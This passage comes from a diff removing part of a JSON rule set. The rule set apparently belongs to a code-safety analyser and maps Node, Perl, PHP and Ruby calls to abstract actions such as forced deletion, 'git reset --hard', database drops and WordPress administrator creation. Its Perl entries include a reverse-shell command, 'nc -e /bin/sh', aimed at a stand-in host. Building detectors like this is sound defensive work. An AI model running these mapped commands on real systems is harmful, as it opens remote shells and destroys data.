-Reset.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","fs.appendFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.createReadStream":"read $0"\
-,"Bun.file":"read $0","Deno.remove":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run r\
-m $0","fs.rm":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.unlink":"run\
- rm $0","fs.rmdir":"if-option:recursive run rm -r $0 | run rmdir $0","fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extra.remove":"run rm -rf $0"\
-,"fs-extra.emptyDir":"run rm -rf $0","fs.createWriteStream":"open $0 w","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.truncate":"run truncate -s\
- 0 $0","Deno.truncate":"run truncate -s 0 $0","del.deleteAsync":"remove-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryRun","del.del":"remove-mat\
-ches $0 $:dryRun","del":"remove-matches $0 $:dryRun","trash":"remove-matches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"remove-matches $0","rimraf":\
-"remove-matches $0","fs.mkdtemp":"new-folder","Deno.makeTempDir":"new-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git $0:baseDir","simple-git"\
-:"made git $0:baseDir","simple-git.default":"made git $0:baseDir","tar.c":"read $1","tar.create":"read $1","bun.SQL":"name bun.sql","Bun.SQL":"name bun.sql","be\
-tter-sqlite3":"made database $0","better-sqlite3.default":"made database $0","sqlite.DatabaseSync":"made database $0","bun:sqlite.Database":"made database $0","\
-fs.rename":"run mv $0 $1","fs.move":"run mv $0 $1","fs.copyFile":"run cp $0 $1","fs.cp":"run cp -r $0 $1","fs.copy":"run cp -r $0 $1","fs.symlink":"run ln -s $0\
- $1","fs.link":"run ln $0 $1","fs.chmod":"chmod $0 $1","fs.chown":"run chown $1 $0","fs.lchown":"run chown $1 $0","fs.readdir":"if-option:withFileTypes=true cal\
-ls-back folder $0 dirent | calls-back names $0","Deno.readDir":"calls-back names $0","fs.glob":"globs $0 $:cwd","glob.sync":"globs $0 $:cwd","glob.globSync":"gl\
-obs $0 $:cwd","glob.glob":"globs $0 $:cwd","glob":"globs $0 $:cwd","globby.globby":"globs $0 $:cwd","globby.globbySync":"globs $0 $:cwd","globby":"globs $0 $:cw\
-d","fast-glob":"globs $0 $:cwd","fast-glob.sync":"globs $0 $:cwd","tinyglobby.glob":"globs $0 $:cwd","tinyglobby.globSync":"globs $0 $:cwd","Object.entries":"pa\
-irs $0","Object.values":"values $0","Object.keys":"keys $0","Reflect.ownKeys":"keys $0","path.dirname":"dirname $0","ssh2.Client":"made ssh","node-ssh.NodeSSH":\
-"made ssh","process.kill":"kill $0 $1","process.setuid":"run setuid $0","process.setgid":"run setgid $0","process.cwd":"value .","Deno.cwd":"value .","JSON.pars\
-e":"parse-json $0","os.homedir":"value ~","Deno.env.toObject":"environment","Deno.env.get":"environment $0","path.join":"join-parts","path.posix.join":"join-par\
-ts","path.resolve":"join $all","fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.request":"open-request $:method=GET $0:url:ho\
-stname:host $:body $:data $:json","https.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios":"open-request $:method=GET $0:ur\
-l:hostname:host $:body $:data $:json","got":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","ky":"open-request $:method=GET $0:url:hostnam\
-e:host $:body $:data $:json","node-fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","request":"open-request $:method=GET $0:url:host\
-name:host $:body $:data $:json","undici.fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.request":"open-request $:method=GET\
- $0:url:hostname:host $:body $:data $:json","axios.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.get":"calls-back request\
- GET $0:url:hostname:host $:body $:data $:json","https.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","axios.get":"request GET $0:url:h\
-ostname:host $:body $:data $:json","got.get":"request GET $0:url:hostname:host $:body $:data $:json","ky.get":"request GET $0:url:hostname:host $:body $:data $:\
-json","superagent.get":"request GET $0:url:hostname:host $:body $:data $:json","needle.get":"request GET $0:url:hostname:host $:body $:data $:json","$.get":"req\
-uest GET $0:url:hostname:host $:body $:data $:json","axios.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","got.post":"open-request POST \
-$0:url:hostname:host $:body $:data $:json $1","ky.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","superagent.post":"open-request POST $0\
-:url:hostname:host $:body $:data $:json $1","needle.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","$.post":"open-request POST $0:url:ho\
-stname:host $:body $:data $:json $1","axios.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","got.put":"open-request PUT $0:url:hostname:hos\
-t $:body $:data $:json $1","ky.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","superagent.put":"open-request PUT $0:url:hostname:host $:bo\
-dy $:data $:json $1","needle.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","$.put":"open-request PUT $0:url:hostname:host $:body $:data $\
-:json $1","axios.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","got.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:j\
-son $1","ky.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","superagent.patch":"open-request PATCH $0:url:hostname:host $:body $:data $\
-:json $1","needle.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","$.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:js\
-on $1","axios.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","got.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:\
-json $1","ky.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","superagent.delete":"open-request DELETE $0:url:hostname:host $:body $:d\
-ata $:json $1","needle.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","$.delete":"open-request DELETE $0:url:hostname:host $:body $:\
-data $:json $1","net.connect":"calls-back connect $1:host=localhost $0:port","net.createConnection":"calls-back connect $1:host=localhost $0:port","tls.connect"\
-:"calls-back connect $1:host=localhost $0:port","net.Socket":"made client","Buffer.from":"decode $0 $1","Buffer":"decode $0 $1","dns.lookup":"run nslookup $0","\
-dns.resolve":"run nslookup $0","dns.resolve4":"run nslookup $0","dns.resolveTxt":"run nslookup $0","dns.resolveAny":"run nslookup $0","db.dropDatabase":"run sql\
- drop-database db","knex":"if-arg:map if-no-sign:connects made mock | made rows","@electric-sql/pglite.PGlite":"if-none made mock","aws-sdk-client-mock.mockClie\
-nt":"mock-class $0","test.mock.method":"spy $0 $1 $2","jest.spyOn":"spy $0 $1 $2","vi.spyOn":"spy $0 $1 $2","sinon.spy":"spy $0 $1 $2","sinon.stub":"if-none moc\
-k | spy $0 $1 $2 stub","sinon.replace":"imitate $0 $1 $2","sinon.createSandbox":"name sinon","jest.fn":"mock","vi.fn":"mock","sinon.fake":"mock","test.mock.fn":\
-"mock","msw/node.setupServer":"made msw","@testcontainers/postgresql.PostgreSqlContainer":"made container","pg.Pool":"if-gets:container if-no-sign:reads-environ\
-ment made database :memory:","pg.Client":"if-gets:container if-no-sign:reads-environment made database :memory:","nock.disableNetConnect":"if-no-sign:besides-ht\
-tp if-unset:NOCK_OFF imitate requests","drizzle":"made drizzle","sql":"sql $0","bun.sql":"sql $0","Bun.sql":"sql $0","kysely.sql":"sql $0","WebSocket":"made con\
-nection $0","ws":"made connection $0","ws.WebSocket":"made connection $0","pm2.delete":"run pm2 delete $0","Object.fromEntries":"from-pairs $0","worker_threads.\
-Worker":"if-option:eval=true eval $0","Worker":"if-option:eval=true eval $0","URL":"if-args:2 value $self | value $0","fs.opendir":"calls-back folder $0 dirent"\
-,"Proxy":"made proxy $1","node-linux.Service":"made service","node-windows.Service":"made service","node-mac.Service":"made service","memfs.memfs":"made mock","\
-memfs.createFsFromVolume":"made mock","drizzle-orm.sql":"value $0","Promise.all":"value $0","Promise.allSettled":"value $0","util.promisify":"value $0","Map":"v\
-alue $0","Set":"value $0","std.walk":"folder $0 below","std.expandGlob":"folder $0 below","Reflect":"value","Reflect.get":"attribute $0 $1","Reflect.apply":"inv\
-oke $0 $2","Reflect.construct":"invoke $0 $1","mock-fs":"if-no-sign:keeps-real imitate files","mock-fs.default":"if-no-sign:keeps-real imitate files","mock-fs.r\
-estore":"end-imitation files"},"methods":{"write":"send $self $0 append","send":"send $self $0 append","install":"if-made:service run systemctl enable --now x",\
-"end":"if-args:1 send $self $0 append","connect":"if-made:client calls-back connect $1:host=localhost $0:port","pipe":"pipe $self $0","pipeTo":"pipe $self $0","\
-on":"listen $self $0 $1","once":"listen $self $0 $1","addListener":"listen $self $0 $1","emit":"emit $0 $1..","then":"then","finally":"then","method":"if-owner:\
-^mock$ spy $0 $1 $2","start":"if-made:container value $self","getConnectionUri":"if-made:container value $self","mockImplementation":"answer-spy $0","callsFake"\
-:"answer-spy $0","mockReturnValue":"answer-spy $0 returned","mockResolvedValue":"answer-spy $0 returned","mockRejectedValue":"answer-spy $0 returned","returns":\
-"answer-spy $0 returned","resolves":"answer-spy $0 returned","rejects":"answer-spy $0 returned","listen":"if-made:msw if-option:onUnhandledRequest=error if-no-s\
-ign:besides-fetch imitate requests","close":"if-made:msw end-imitation requests","toString":"value $self","text":"value $self","json":"value $self","unref":"val\
-ue $self","bind":"made bound $self $1..","delete":"if-made:drizzle if-no-sign:limits run sql delete-all rows | if-database if-arg:name if-no-sign:limits run sql\
- delete-all $owner","destroy":"if-option:truncate=true run sql truncate rows | if-option:where={} run sql delete-all rows","getVolume":"made docker-volume","sca\
-n":"if-made:glob globs $origin","scanSync":"if-made:glob globs $origin","runInThisContext":"if-made:vm-script eval $origin","runInNewContext":"if-made:vm-script\
- eval $origin","runInContext":"if-made:vm-script eval $origin","push":"if-list append $self $all","unshift":"if-list append $self $all","splice":"if-list append\
- $self $all","put":"if-made:sftp run scp -r $0 host:/x","fastPut":"if-made:sftp run scp -r $0 host:/x","uploadDir":"if-made:sftp run scp -r $0 host:/x","deleteL\
-ocalBranch":"if-git if-says:^true$ run git branch -D","deleteLocalBranches":"if-git if-says:^true$ run git branch -D","sendMail":"sends-files","sendCommand":"if\
--stored program redis-cli $all","pipeline":"if-stored program redis-cli $all","multi":"if-stored program redis-cli $all","scanStream":"if-stored entries keys","\
-scanIterator":"if-stored entries keys","keys":"if-stored if-args:1 entries keys","del":"if-gets:keys run sql flush FLUSHDB | if-made:rows run sql delete-all row\
-s","unlink":"if-gets:keys run sql flush FLUSHDB","update":"if-made:rows if-no-sign:limits run sql update-all rows","reset":"if-made:git if-says:hard$|Hard$|HARD\
-$ run git reset --hard","clean":"if-made:git if-says:^n[dfxq]*$|^-\\\\w*n\\\\w*$|DRY_RUN$ run git clean -n | if-made:git run git clean -fd","rollback":"if-name:migr\
-ate if-args:2 run sql drop-table rows","exec":"if-made:ssh shell $0 | sql $0:query:sql:text","execCommand":"if-made:ssh shell $0","remove":"if-made:docker-volum\
-e run docker volume rm $self | if-database if-empty run sql delete-all $owner","pruneVolumes":"run docker volume prune -af","drop":"if-database run sql drop-col\
-lection $owner","query":"sql $0:query:sql:text","execute":"sql $0:query:sql:text","$executeRawUnsafe":"sql $0:query:sql:text","$executeRaw":"sql $0:query:sql:te\
-xt","$queryRawUnsafe":"sql $0:query:sql:text","$queryRaw":"sql $0:query:sql:text","run":"sql $0:query:sql:text","prepare":"sql $0:query:sql:text","raw":"sql $0:\
-query:sql:text","unsafe":"sql $0:query:sql:text","command":"sql $0:query:sql:text","batch":"sql $0:query:sql:text","executeQuery":"sql $0:query:sql:text","sync"\
-:"if-option:force=true run sql drop-table rows","getSiblingDB":"name db","getSisterDB":"name db","getDB":"name db","getCollection":"name db.collection","explain\
-":"name cache","runCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql shutdo\
-wn db | if-option:dropAllUsersFromDatabase run sql drop-user all","adminCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql drop-\
-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","dropUser":"if-database run sql drop-user\
- $owner","dropAllUsers":"if-database run sql drop-user $owner","shutdownServer":"if-database run sql shutdown $owner","truncate":"if-made:rows run sql delete-al\
-l rows"}},"perl":{"lexer":{"comment":["#"],"sigils":"$@%","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"q","heredoc":"perl","pattern\
-s":true,"lines":"none"},"program":"perl","blocks":"braces","member_operators":["->","::"],"concatenation_operators":[".","x"],"bare_calls":true,"function_keywor\
-ds":["sub"],"inputs":{"@ARGV":"args","$ARGV":"args","\\"@ARGV\\"":"joined-args","$ENV":"environment","%ENV":"environment","$_":"text","STDIN":"text"},"sdks":[],"t\
-exts":{"$0":"./program.pl","STDIN":"\\ufffc"},"aliases":{},"rewrites":[["^&",""]],"functions":{"tempdir":"value /tmp/\\ufffc","File.Temp.tempdir":"value /tmp/\\uff\
-fc","File.Temp.newdir":"value /tmp/\\ufffc","getcwd":"value .","Cwd.getcwd":"value .","Cwd.cwd":"value .","values":"values $0","shift":"take $0","pop":"take $0",\
-"print":"print text","say":"print line","readline":"input","system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","exec":"if-sig\
-n:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $al\
-l","CORE.exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","readpipe":"if-sign:socket-shell run nc -e /bin/sh shell.example.ne\
-t 443 | command $all","systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","capturex":"if-sign:socket-shell run nc -e /bin/sh\
- shell.example.net 443 | command $all","IPC.System.Simple.systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Sim\
-ple.capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","eval":"eval $0","unlink":"run rm $all","rmdir":"run rmdir $all","rm\
-tree":"run rm -rf $0","File.Path.rmtree":"run rm -rf $0","remove_tree":"run rm -rf $all","File.Path.remove_tree":"run rm -rf $all","rename":"run mv $0 $1","move\
-":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","truncate":"run truncate -s 0 $0","chmod":"chmod $1.. $0","chown":"run \
-chown $0 $2..","kill":"kill $1.. $0","fork":"if-sign:repeats run fork","open":"open-perl $1 $2..","find":"find","finddepth":"find","File.Find.find":"find","File\
-.Find.finddepth":"find","do":"if-arg:text read $0","glob":"glob $0","readdir":"names .","Config.Tiny.read":"read $0","Config.INI.Reader.read_file":"read $0","Lo\
-adFile":"read $0","YAML.XS.LoadFile":"read $0","YAML.LoadFile":"read $0","read_file":"read $0","File.Slurp.read_file":"read $0","slurp":"read $0","retrieve":"re\
-ad $0","Storable.retrieve":"read $0","recv":"received","LWP.Simple.get":"request GET $0","get":"request GET $0","POSIX.setuid":"run setuid $0","setuid":"run set\
-uid $0","pack":"pack $0 $1..","Net.OpenSSH.new":"made ssh","Net.SSH.Perl.new":"made ssh","Net.SSH2.new":"made ssh","LWP.UserAgent.new":"made rest","HTTP.Tiny.ne\
-w":"made rest","Mojo.UserAgent.new":"made rest","MongoDB.connect":"made mongo","MongoDB.MongoClient.new":"made mongo","Net.LDAP.new":"made service","Net.LDAPS.n\
-ew":"made service","MIME.Lite.attach":"sends-files","unpack":"if-says:^u fold unread $1","run3":"program $0","IPC.Run3.run3":"program $0","path":"join $all","Pa\
-th.Tiny.path":"join $all"},"methods":{"do":"sql $0","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-made:ssh command $al\
-l","capture2":"if-made:ssh command $all","pipe_out":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command $all","channel":\
-"if-made:ssh value $self","delete":"if-made:rest request-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-over POST $0 $1",\
-"post_form":"if-made:rest request-over POST $0 $1","put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get_collection":"if-\
-made:mongo value $self","ns":"if-made:mongo value $self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-\
-stored entries keys","del":"if-gets:keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob $self **","spew":\
-"if-text write $self $0","spew_utf8":"if-text write $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree":"if-text run rm \
--rf $self","children":"if-text folder $self","slurp":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},"php":{"lexer":{"\
-comment":["//","#"],"block_comment":["/*","*/"],"sigils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","heredoc":"php","pa\
-tterns":false,"lines":"none"},"program":"php","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_calls":false,"functio\
-n_keywords":["function"],"inputs":{"$argv":"argv","$_SERVER":"server","$_ENV":"environment","$_GET":"peer","$_POST":"peer","$_REQUEST":"peer","$_COOKIE":"peer"}\
-,"sdks":["drupal.entitytypemanager","aws.","google.cloud.","stripe.","microsoftazure.","digitaloceanv2.","github.","gitlab.","cloudflare.","twilio.","s3client",\
-"ec2client","rdsclient","dynamodbclient","route53client","sqsclient","kmsclient","secretsmanagerclient","iamclient","lambdaclient","cloudformationclient","ekscl\
-ient","ecsclient","ecrclient","snsclient","ssmclient","elasticacheclient","efsclient","redshiftclient","glacierclient","backupclient","organizationsclient","clo\
-udfrontclient","cloudwatchlogsclient","cognitoidentityproviderclient","opensearchserviceclient","kinesisclient","autoscalingclient","lightsailclient","neptunecl\
-ient","docdbclient","apigatewayclient","acmclient","storageclient","bigqueryclient","stripeclient","mailchimpmarketing.","mailgun.","algolia.","shopify.","elast\
-ic.","hubspot.","auth0.","cloudinary."],"texts":{"__DIR__":".","__FILE__":"./program.php"},"aliases":{},"rewrites":[["^(?:\\\\w+\\\\.)*(filesystem|httpclient|ssh2|\\\
-\\w+iterator|splfileobject|pdo|process|\\\\w{2,}client)(?=$|\\\\.\\\\w+$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made memcached","memcache":"made mem\
-cached","eval":"eval $0","assert":"if-arg:text eval $0","create_function":"eval $1","storage.disk":"if-no-sign:faked-storage if-says:^(s3|gcs|azure|r2|spaces|mi\
-nio) made service","config":"if-says:(secret|password|token|[-_.]key)$|^database\\\\.connections(\\\\.\\\\w+)?(\\\\.url)?$ secret","dump":"print line","dd":"print line"\
-,"var_dump":"print line","print_r":"print line","include":"include $0","require":"include $0","include_once":"include $0","require_once":"include $0","system":"\
-shell $0","exec":"shell $0","shell_exec":"shell $0","passthru":"shell $0","popen":"shell $0","proc_open":"shell $0","pcntl_system":"shell $0","unlink":"run rm $\
-0","rmdir":"run rmdir $0","rename":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run cho\
-wn $1 $0","wp_insert_user":"if-says:^administrator$ run wp user create --role=administrator","wp_delete_post":"if-args:2 run sql delete-all posts","wp_delete_at\
-tachment":"if-args:2 run sql delete-all posts","wp_delete_user":"if-args:2 run sql delete-all posts","wp_delete_comment":"if-args:2 run sql delete-all posts","w\
-p_delete_term":"if-args:2 run sql delete-all posts","file_get_contents":"if-args:3 request POST $0 $2 | read $0","stream_context_create":"made context $0","file\
-":"read $0","readfile":"read $0","show_source":"read $0","highlight_file":"read $0","curlfile":"read $0","curl_file_create":"read $0","parse_ini_file":"read $0"\
-,"yaml_parse_file":"read $0","simplexml_load_file":"read $0","socket_read":"received","stream_socket_recvfrom":"received","stream_socket_accept":"made peer","so\
-cket_accept":"made peer","file_put_contents":"write $0 $1 $2","fopen":"open $0 $1","splfileobject":"open $0 $1","fwrite":"send $0 $1","fputs":"send $0 $1","posi\
-x_kill":"kill $0 $1","posix_setuid":"run setuid $0","pcntl_fork":"if-sign:repeats run fork","pcntl_exec":"program $all","mail":"run sendmail $0","fsockopen":"co\
-nnect $all","curl_init":"made request $0","curl_exec":"request GET $0","curl_setopt":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request \
-POST $0 $2","curl_setopt_array":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","call_user_func":"invoke $0 $1..","call_u\
-ser_func_array":"invoke $0 $1","getenv":"environment $0","dirname":"dirname $0","getcwd":"value .","json_decode":"parse-json $0","fgets":"if-gets:peer received \
-| if-gets:connection received | input","fread":"if-gets:peer received | if-gets:connection received | input","stream_get_contents":"if-gets:peer received | if-g\
-ets:connection received | input","readline":"if-gets:peer received | if-gets:connection received | input","glob":"glob $0","globiterator":"glob $0","scandir":"n\
-ames $0","recursivedirectoryiterator":"folder $0","directoryiterator":"folder $0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escap\
-eshellarg":"value $0","escapeshellcmd":"value $0","array_slice":"value $0","array_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysql\
-i_query":"sql $1","mysqli_multi_query":"sql $1","mysqli_real_query":"sql $1","sqlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $\
-1 | sql $0","pg_send_query":"sql $1 | sql $0","db.delete":"sql $0","db.update":"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows",\
-"schema.drop":"run sql drop-table $0","schema.dropifexists":"run sql drop-table $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php arti\
-san $0","base_path":"join . $0","app_path":"join app $0","database_path":"join database $0","resource_path":"join resources $0","storage_path":"join storage $0"\
-,"filesystem":"made filesystem","file.deletedirectory":"run rm -rf $0","file.cleandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest \
-$all","client":"if-sign:http-client made rest $all","httpclient.create":"if-sign:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:lis\
-t shell $0","process.fromshellcommandline":"if-arg:text shell $0","process.run":"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"\
-made rest","http.withheaders":"made rest","http.withbasicauth":"made rest","http.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DE\
-LETE $0","http.post":"request POST $0 $1","ssh2":"made ssh","ssh2_exec":"shell $1"},"methods":{"set_role":"if-says:^administrator$ run wp user create --role=adm\
-inistrator","add_role":"if-says:^administrator$ run wp user create --role=administrator","query":"sql $0","prepare":"sql $0","executestatement":"sql $0","execut\
-equery":"sql $0","executeupdate":"sql $0","createquery":"sql $0","real_query":"sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatet\
-ablesql":"made whole","getdroptablesql":"made whole","getdropschemasql":"made whole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","d\
-ropschema":"if-kept run sql drop-schema $owner","createquerybuilder":"made builder","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:\
-rest request-over DELETE $0","remove":"if-made:filesystem run rm -rf $0","request":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-o\
-ver POST $0 $1:json:body","get":"if-made:rest request-over GET $0","selectdatabase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","\
-getdatabase":"if-made:mongo value $self","getcollection":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-store\
-d entries keys","del":"if-gets:keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wip\
-e$ run php artisan migrate:fresh","flush":"if-made:memcached run sql flush FLUSHALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $s\
-elf $0","fwrite":"send $self $0","getpathname":"value $self","getrealpath":"value $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql dr\
-op-bucket $0"}},"ruby":{"lexer":{"comment":["#"],"sigils":"$@","interpolation":"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"ruby"\
-,"patterns":true,"lines":"statements"},"program":"ruby","blocks":"end","member_operators":[".","::","&."],"concatenation_operators":["<<"],"bare_calls":true,"fu\
-nction_keywords":["def"],"inputs":{"ARGV":"args","$*":"args","ENV":"environment","$_":"text","STDIN":"lines","$stdin":"lines","ARGF":"lines","params":"peer"},"s\
-dks":["Aws.","Google.Cloud.","Azure.","Stripe.","Bunny.","ShopifyAPI.","Vault.","Slack.","SendGrid.","Cloudflare.","Kubeclient.","Octokit.","Gitlab.","Elasticse\
-arch.","DropletKit.","Fog.","Algolia.","Twilio."],"texts":{"__FILE__":"./program.rb","__dir__":"."},"aliases":{"rm_f":"FileUtils.rm_f","rm_r":"FileUtils.rm_r","\
-rm_rf":"FileUtils.rm_rf","rmtree":"FileUtils.rmtree","remove_dir":"FileUtils.remove_dir","remove_entry":"FileUtils.remove_entry","cp_r":"FileUtils.cp_r","remove\
-_entry_secure":"FileUtils.remove_entry_secure","chmod_R":"FileUtils.chmod_R","chown_R":"FileUtils.chown_R"},"rewrites":[["^(?:Kernel|Object|self)\\\\.",""]],"func\
-tions":{"puts":"print line","p":"print line","pp":"print line","print":"print text","gets":"input","readlines":"input","Rails.application":"name rails_applicati\
-on","ActiveRecord.Tasks.DatabaseTasks.drop_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.drop_all":"run sql drop-database db","ActiveRec\
-ord.Tasks.DatabaseTasks.purge_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.truncate_all":"run sql drop-database db","rails_application.\
-credentials":"secret","Vault.logical.read":"secret","Vault.kv.read":"secret","const_get":"module $0","constantize":"module $0","Rake.Task.[]":"made rake $0","Ra\
-ke.Application.[]":"made rake $0","Git.open":"made git","Git.clone":"made git","Git.init":"made git","Git.bare":"made git","Rugged.Repository.new":"made git","s\
-end":"invoke $0 $1..","public_send":"invoke $0 $1..","__send__":"invoke $0 $1..","Dir.[]":"globs $all","Rake.FileList.[]":"globs $all","FileList.[]":"globs $all\
-","Rake.FileList.new":"globs $all","FileList.new":"globs $all","Sequel.connect":"made sequel","Sequel.postgres":"made sequel","Sequel.mysql2":"made sequel","Seq\
-uel.sqlite":"made sequel","Sequel.tinytds":"made sequel","Sequel.oracle":"made sequel","Sequel.jdbc":"made sequel","IO.popen":"calls-back if-arg:list command $a\
-ll | calls-back shell $0","Open3.popen2":"calls-back command $all","Open3.popen2e":"calls-back command $all","Open3.popen3":"calls-back command $all","system":"\
-command $all","exec":"command $all","spawn":"command $all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Open3.capture3":"command $all","PTY\
-.spawn":"command $all","Process.Sys.setuid":"run setuid $0","Process.Sys.seteuid":"run setuid $0","Process.UID.change_privilege":"run setuid $0","Process.UID.gr\
-ant_privilege":"run setuid $0","eval":"eval $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLEVEL_BINDING.eval":"eval $0","bind\
-ing.eval":"eval $0","Sidekiq.Queue.new":"made sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made sidekiq","Sidekiq.DeadSet.new":"ma\
-de sidekiq","Sidekiq.Queue.all":"entries sidekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-volume","Sequel.mock":"made mock"\
-,"MockRedis.new":"made mock","Docker.Volume.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","ObjectSpace.each_object":"entries mod\
-el","Mongo.Client.new":"made mongo","Mongoid.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.client":"made mongo","Mongoid.Clients.\
-with_name":"made mongo","Mongoid.purge!":"run sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","Mongoid.Config.purge!":"run sql dr\
-op-database mongoid","Mongoid.Config.truncate!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"calls-back open $0 $1","File.open"\
-:"calls-back open $0 $1","File.new":"calls-back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTParty.get":"request GET $0","Faraday\
-.get":"request GET $0","RestClient.get":"request GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get":"request GET $0","Net.HTTP.post\
-":"request POST $0 $1 $:body $:json $:form","Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"request POST $0 $1 $:body $:json $:f\
-orm","Faraday.post":"request POST $0 $1 $:body $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP.post":"request POST $0 $1 $:body\
- $:json $:form","Excon.post":"request POST $0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form","HTTParty.delete":"request DELE\
-TE $0","Faraday.delete":"request DELETE $0","RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.delete":"request DELETE $0","Typhoe\
-us.delete":"request DELETE $0","Net.HTTP.Delete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","URI":"value $0","URI.parse":"valu\
-e $0","File.expand_path":"value $0","Pathname":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","File.readlines":"read $0","File.f\
-oreach":"read $0","File.binread":"read $0","IO.readlines":"read $0","IO.binread":"read $0","YAML.load_file":"read $0","YAML.safe_load_file":"read $0","YAML.unsa\
